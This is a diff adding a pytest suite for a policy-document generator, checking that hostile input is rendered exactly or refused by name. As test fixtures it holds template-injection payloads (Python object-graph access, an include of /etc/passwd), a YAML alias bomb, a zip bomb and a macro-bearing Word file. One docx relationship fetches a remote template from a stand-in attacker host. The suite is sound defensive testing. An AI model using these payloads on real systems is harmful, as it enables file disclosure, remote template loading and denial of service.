@@ -1,0 +1,421 @@
+"""Bad input: what people paste, mistype and attack with. It is printed exactly, or refused by name; never half done."""
+
+import io
+import json
+import unicodedata
+import zipfile
+from dataclasses import replace
+from functools import cache
+from pathlib import Path
+
+import docx
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from policygen import workflow
+from policygen.cli.main import run
+from policygen.content.answer_text import RefusedError, plain_text
+from policygen.render import fonts
+from policygen.verify import docx_reading, pdf_checks
+from tests import samples
+from tests.samples import CODE, EXAMPLES, HOSTILE, POLICY, VENDOR, issue, rendered
+
+STAND_IN = "Zyxxyz"
+UNSEEN = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0xFEFF]))
+
+
+# --- any printable text ---------------------------------------------------------------------------------------------
+
+
+def printable() -> st.SearchStrategy[str]:
+    """Texts that the question takes: no control, private or direction characters, nothing unassigned."""
+    plain = st.characters(exclude_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp"), exclude_characters=UNSEEN)
+    marked = st.sampled_from(list("*_`[]()<>&|#+-.!~\\\"'{}%$^=:;@/ 0123456789")) | st.sampled_from(
+        [
+            "{{ 7*7 }}",
+            "{% raw %}",
+            "</w:t>",
+            "<!--",
+            "]]>",
+            "&amp;",
+            "&#x41;",
+            "![",
+            "](",
+            "**",
+            "__",
+            "```",
+            "<br>",
+            "1. ",
+            "- ",
+            "  ",
+        ]
+    )
+    return st.lists(plain | marked, min_size=1, max_size=40).map("".join).filter(_taken)
+
+
+def _taken(text: str) -> bool:
+    try:
+        return bool(plain_text(text).strip()) and plain_text(text) == text
+    except RefusedError:
+        return False
+
+
+@cache
+def _texts_of(name: str) -> dict[str, str]:
+    """What Word, HTML and Markdown of the shop's code and short terms show, white space made one."""
+    changes = {"organisation.name": name, "contacts.senior.post": f"Senior {name}"}
+    made = rendered(issue("corner-shop", changes, documents=(CODE, f"{VENDOR}-small")), "docx", "html", "md")
+    return {path: _text(path, artifact.data) for path, artifact in made.items()}
+
+
+def _text(path: str, data: bytes) -> str:
+    if path.endswith(".docx"):
+        return "\n".join(" ".join(line.split()) for line in docx_reading.lines(data))
+    page = data.decode() if path.endswith(".html") else MarkdownIt("commonmark").enable("table").render(data.decode())
+    return " ".join(samples.page_text(page).split())
+
+
+@given(printable())
+def test_any_printable_text_reads_exactly_in_word_html_and_markdown(text: str) -> None:
+    """The documents of two organisations differ in the name alone, to the character."""
+    assume(STAND_IN not in text)
+    shown = " ".join(text.split())
+    for path, expected in _texts_of(STAND_IN).items():
+        assert _texts_of.__wrapped__(text)[path] == " ".join(expected.replace(STAND_IN, shown).split(" ")), path
+
+
+@given(printable())
+def test_any_text_the_fonts_hold_reads_exactly_in_the_pdf_and_any_other_is_refused_by_name(text: str) -> None:
+    made = issue("corner-shop", {"organisation.name": text}, documents=(f"{CODE}",))
+    main = replace(made.job, planned=made.job.planned[:1])
+    artifacts, missing, findings = workflow.render_all(
+        workflow.Issue(main, made.assembled[:1], made.accounts), workflow.Request(answers=Path("x"), formats=("pdf",))
+    )
+    pdf = next((a.data for a in artifacts if a.path.endswith(".pdf")), b"")
+    lacking = fonts.missing(text)
+    if not lacking:
+        assert _spaceless(text) in _spaceless("".join(pdf_checks.words(pdf)))
+        return
+    assert pdf == b""
+    assert set(missing) == {f"{CODE}.en.pdf"}
+    assert {a.path.rsplit(".", 1)[1] for a in artifacts} == {"docx", "html", "md"}
+    said = "\n".join(str(finding) for finding in findings)
+    assert "organisation.name" in said
+    for character in lacking:
+        assert f'"{character}" (U+{ord(character):04X})' in said
+
+
+def _spaceless(text: str) -> str:
+    return "".join(unicodedata.normalize("NFC", text).split())
+
+
+# --- names that people have -------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("example", EXAMPLES)
+def test_a_hostile_name_and_post_read_exactly_in_all_formats_of_all_documents(example: str) -> None:
+    contact = next(iter(samples.data(example)["contacts"]))
+    made = issue(example, {"organisation.name": HOSTILE, f"contacts.{contact}.post": HOSTILE})
+    files = rendered(made)
+    assert {path for p in made.job.planned for path in (f"{p.stem}.{f}" for f in p.formats)} == set(files)
+    for path, artifact in files.items():
+        if path.endswith(".pdf"):
+            assert _spaceless(HOSTILE) in _spaceless("".join(pdf_checks.words(artifact.data))), path
+        else:
+            assert HOSTILE in _text(path, artifact.data), path
+            assert "49" not in _text(path, artifact.data).replace("3350", "").split(), path
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["W" * 300, "Very Long Name " * 20, "x" * 150 + " " + "y" * 149, "髙" * 300, "ﬁ" * 300],
+    ids=["wide", "words", "two words", "japanese", "ligatures"],
+)
+def test_names_of_300_characters_are_set_in_every_format(name: str) -> None:
+    made = issue("corner-shop", {"organisation.name": name.strip(), "contacts.owner.post": name.strip()})
+    files = rendered(made)
+    assert {f"{stem}.en.{kind}" for stem in (POLICY, CODE, VENDOR) for kind in ("docx", "pdf", "html", "md")} <= set(
+        files
+    )
+    for stem in (POLICY, CODE, VENDOR):
+        assert _spaceless(name) in _spaceless("".join(pdf_checks.words(files[f"{stem}.en.pdf"].data)))
+
+
+@pytest.mark.parametrize("name", ["שלום מרכז", "مركز السلام Ltd", "Ltd שלום 123 (ABC)"])
+def test_right_to_left_text_reads_in_the_order_it_was_typed(name: str) -> None:
+    made = rendered(issue("corner-shop", {"organisation.name": name}, documents=(POLICY,)), "docx", "html", "md")
+    assert len(made) == 3
+    for path, artifact in made.items():
+        assert name in _text(path, artifact.data)
+
+
+def test_a_sheet_that_would_overflow_is_left_out_and_says_which_clause_could_go(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clause = f"---\nid: long-story\nversion: 1\nslot: {CODE}/wall-please\n---\n" + "A long story. " * 300 + "\n"
+    own = _own(tmp_path, {"templates/clauses/long-story.en.md": clause})
+    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-d", f"{CODE}-wall"]
+    assert run([*command, "--content", str(own)]) == 1
+    told = capsys.readouterr().err
+    assert "does not fit on one page of A4" in told
+    assert "leave out `long-story`" in told
+    assert list(json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))["missing"]) == [f"{CODE}-a4.en.pdf"]
+
+
+# --- what no font holds -----------------------------------------------------------------------------------------------
+
+
+def test_an_emoji_leaves_out_the_pdf_alone_and_names_question_character_and_code_point(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    answers = samples.file(tmp_path, "corner-shop", {"organisation.name": "Bellbird 🐦 Store"})
+    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", POLICY]) == 1
+    told = capsys.readouterr().err
+    for words in ("organisation.name", '"🐦"', "U+1F426", "--font"):
+        assert words in told
+    made = {path.name for path in (tmp_path / "out").glob(f"{POLICY}.*")}
+    assert made == {f"{POLICY}.en.{kind}" for kind in ("docx", "html", "md")}
+    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
+    assert list(manifest["missing"]) == [f"{POLICY}.en.pdf"]
+    assert "U+1F426" in manifest["missing"][f"{POLICY}.en.pdf"]
+    for page in ("START-HERE.html", "README.md"):
+        assert f"{POLICY}.en.pdf: no font" in _text(page, (tmp_path / "out" / page).read_bytes())
+
+
+@pytest.mark.parametrize(
+    ("character", "code", "words"),
+    [
+        ("\u202e", "U+202E", "turns the direction"),
+        ("\u2067", "U+2067", "turns the direction"),
+        ("\x1b", "U+001B", "a control character"),
+        ("\x7f", "U+007F", "a control character"),
+        ("\x9b", "U+009B", "a control character"),
+        ("\t", "U+0009", "a tab"),
+        ("\U000f0000", "U+F0000", "plane 15 or 16"),
+        ("\U00100000", "U+100000", "plane 15 or 16"),
+        ("\U0010fffd", "U+10FFFD", "plane 15 or 16"),
+    ],
+)
+def test_a_character_that_nobody_can_see_is_refused_at_its_question(
+    character: str, code: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    answers = samples.file(tmp_path, "corner-shop", {"organisation.name": f"Bell{character}bird"})
+    assert run(["build", str(answers), "-o", str(tmp_path / "out")]) == 1
+    told = capsys.readouterr().err
+    assert code in told
+    assert words in told
+    assert "answers.yaml:" in told
+    assert "organisation.name" in told
+    assert not (tmp_path / "out").exists()
+
+
+# --- answers ------------------------------------------------------------------------------------------------------------
+
+
+def _build(tmp_path: Path, text: str, *more: str) -> int:
+    (tmp_path / "answers.yaml").write_text(text, "utf-8")
+    return run(["build", str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "out"), *more])
+
+
+def test_the_word_no_is_text_where_text_is_asked(tmp_path: Path) -> None:
+    text = samples.text("corner-shop").replace("name: Bellbird Corner Store", "name: no")
+    assert _build(tmp_path, text, "-d", POLICY, "-f", "md") == 0
+    assert "no" in (tmp_path / "out" / f"{POLICY}.en.md").read_text("utf-8")
+
+
+@pytest.mark.parametrize(
+    ("found", "instead", "words"),
+    [
+        ("industry: retail", "industry: retail\n  industry: ngo", '"industry" stands here twice'),
+        ("industry: retail", "industry: retial", 'Did you mean "retail"?'),
+        ("industry: retail", "indutsry: retail", 'Did you mean "industry"?'),
+        ("law: au-vic", "law: au-vc", 'Did you mean "au-vic"?'),
+        ("- suppliers", "- supliers", 'Did you mean "suppliers"?'),
+        ("finds_facts: owner", "finds_facts: ower", 'Did you mean "owner"?'),
+        ("hr: false", "hr: no", "Write false, without quotation marks."),
+        ("version: 1\n", "version: 7\n", "version 7 is not known"),
+        ("version: 1\n", "version: 1\nbomb: &a [x]\n" + f"more: [{', '.join(['*a'] * 150)}]\n", "more than 100 aliases"),
+        ("version: 1\n", "version: 1\ndeep: " + "[" * 60_000 + "]" * 60_000 + "\n", "levels deep"),
+    ],
+)  # fmt: skip
+def test_a_broken_answers_file_is_refused_with_line_and_what_would_be_right(
+    found: str, instead: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert found in samples.text("corner-shop")
+    assert _build(tmp_path, samples.text("corner-shop").replace(found, instead, 1)) == 1
+    told = capsys.readouterr().err
+    assert words in told
+    assert "answers.yaml:" in told
+    assert not (tmp_path / "out").exists()
+
+
+def test_missing_answers_are_all_named_and_a_draft_marks_them(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    changes = {"reporting.finds_facts": samples.GONE, "issue.owner": samples.GONE}
+    text = samples.text("corner-shop", changes)
+    assert _build(tmp_path, text) == 1
+    told = capsys.readouterr().err
+    assert "`reporting.finds_facts` has no answer" in told
+    assert "`issue.owner` has no answer" in told
+    assert not (tmp_path / "out").exists()
+    assert _build(tmp_path, text, "--draft") == 0
+    page = (tmp_path / "out" / f"{POLICY}.en.html").read_text("utf-8")
+    assert "[to be completed" in page
+    assert json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))["draft"] is True
+
+
+@pytest.mark.parametrize("raw", [b"", b"\xff\xfea\x00", b"\x00" * 100, b"just a sentence", b"- a\n- b\n", b"%PDF-1.7"])
+def test_a_file_that_holds_no_answers_is_refused_in_words(
+    raw: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "answers.yaml").write_bytes(raw)
+    assert run(["build", str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "out")]) == 1
+    assert "hint:" in capsys.readouterr().err
+
+
+# --- content of others --------------------------------------------------------------------------------------------------
+
+
+def _own(tmp_path: Path, files: dict[str, str]) -> Path:
+    for name, text in files.items():
+        path = tmp_path / "own" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, "utf-8")
+    return tmp_path / "own"
+
+
+@pytest.mark.parametrize(
+    ("body", "words"),
+    [
+        ("{{ organisation.__class__.__mro__ }}", 'a name may not start with "_"'),
+        ("{{ cycler.__init__.__globals__ }}", 'a name may not start with "_"'),
+        ("{% for i in range(1000000000) %}x{% endfor %}", "Call is not part of the language"),
+        ("{% for a in contacts %}{% for b in contacts %}" * 12 + "x" * 400 + "{% endfor %}{% endfor %}" * 12, "grows beyond"),
+        ("{% include '/etc/passwd' %}", "`Include` is not part of the language"),
+        ("Before \U00100000 after", "a character reserved for values"),
+    ],
+)  # fmt: skip
+def test_a_clause_that_attacks_is_refused_with_its_file(
+    body: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clause = f"---\nid: ours\nversion: 1\nslot: {POLICY}/steps\n---\n{body}\n"
+    own = _own(tmp_path, {"templates/clauses/ours.en.md": clause})
+    answers = samples.file(tmp_path, "childrens-network")
+    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "--content", str(own), "-d", POLICY]) == 1
+    told = capsys.readouterr().err
+    assert words in told
+    assert "templates/clauses/ours.en.md:6" in told
+    assert not (tmp_path / "out").exists()
+
+
+def test_two_packs_that_name_one_clause_are_refused_showing_both(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clause = f"---\nid: one-rule\nversion: 1\nslot: {POLICY}/annex-rules\n---\nText.\n"
+    pack = "code: {}\nname: {}\nlocale: en-GB\npaper: a4\nchecked_on: 2026-11-01\nreview_by: 2027-11-01\n"
+    files = {f"jurisdictions/{code}/clauses/one-rule.en.md": clause for code in ("xa", "xb")}
+    own = _own(tmp_path, {**files, **{f"jurisdictions/{c}/pack.yaml": pack.format(c, c * 3) for c in ("xa", "xb")}})
+    assert run(["list", "clauses", "--content", str(own)]) == 1
+    told = capsys.readouterr().err
+    assert all(name in told for name in files)
+
+
+def test_two_clauses_of_one_layer_that_replace_one_are_refused_showing_both(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    clause = (
+        "---\nid: {}\nversion: 1\nslot: "
+        + POLICY
+        + "/commitment\nreplaces: our-commitment\nsupplies: [POL-01]\n---\nOurs.\n"
+    )
+    files = {f"templates/clauses/{name}.en.md": clause.format(name) for name in ("first", "second")}
+    answers = samples.file(tmp_path, "childrens-network")
+    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "--content", str(_own(tmp_path, files))]) == 1
+    told = capsys.readouterr().err
+    assert 'both change "our-commitment"' in told
+    assert all(name in told for name in files)
+
+
+# --- folders -----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("out", ["taken", "taken/below"])
+def test_an_output_folder_that_cannot_be_written_is_named_and_nothing_is_left(
+    out: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / "taken").write_text("a file stands here")
+    assert run(["build", str(samples.example("corner-shop")), "-o", str(tmp_path / out), "-d", CODE, "-f", "md"]) == 1
+    assert str(tmp_path / out) in capsys.readouterr().err
+    assert [path.name for path in tmp_path.iterdir()] == ["taken"]
+
+
+# --- letterheads -------------------------------------------------------------------------------------------------------
+
+
+def _letterhead(folder: Path, **parts: bytes) -> Path:
+    """A plain Word file, with parts added or replaced; `__` in a name stands for `/`."""
+    packed, path = io.BytesIO(), folder / "letterhead.docx"
+    docx.Document().save(packed)
+    with zipfile.ZipFile(packed) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+        added = {name.replace("__", "/"): data for name, data in parts.items()}
+        for name in old.namelist():
+            if name not in added:
+                new.writestr(name, old.read(name))
+        for name, data in added.items():
+            new.writestr(name, data)
+    return path
+
+
+EXTERNAL = (
+    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+def _shells(folder: Path) -> dict[str, Path]:
+    plain = folder / "plain.docx"
+    plain.write_bytes(b"I am a letter, not a Word file.")
+    return {
+        "this is not a .docx file": plain,
+        "unpacks to more than": _renamed(_letterhead(folder, word__bomb=b"\0" * 200_000_000), "bomb"),
+        "it holds a macro": _renamed(
+            _letterhead(folder, word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"}), "macro"
+        ),
+        "https://evil.example/t.dotm": _renamed(
+            _letterhead(folder, **{"word___rels__settings.xml.rels": EXTERNAL}), "outside"
+        ),
+    }
+
+
+def _renamed(path: Path, name: str) -> Path:
+    return path.rename(path.with_name(f"{name}.docx"))
+
+
+def test_a_dangerous_letterhead_is_refused_by_the_check_and_by_the_build(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for words, shell in _shells(tmp_path).items():
+        assert run(["shell", "check", str(shell)]) == 1, words
+        assert words in capsys.readouterr().err
+        command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-d", CODE, "-f", "docx"]
+        assert run([*command, "--shell", str(shell)]) == 1, words
+        told = capsys.readouterr().err
+        assert words in told
+        assert "has a bug" not in told
+        assert not list((tmp_path / "out").glob("*.docx"))
+
+
+def test_a_letterhead_that_is_not_there_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-f", "docx", "-d", CODE]
+    assert run([*command, "--shell", str(tmp_path / "none.docx")]) == 1
+    assert "none.docx" in capsys.readouterr().err
+
+
+def test_a_safe_letterhead_is_used(tmp_path: Path) -> None:
+    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-f", "docx", "-d", CODE]
+    assert run([*command, "--shell", str(_letterhead(tmp_path))]) == 0
+    assert (tmp_path / "out" / f"{CODE}.en.docx").is_file()
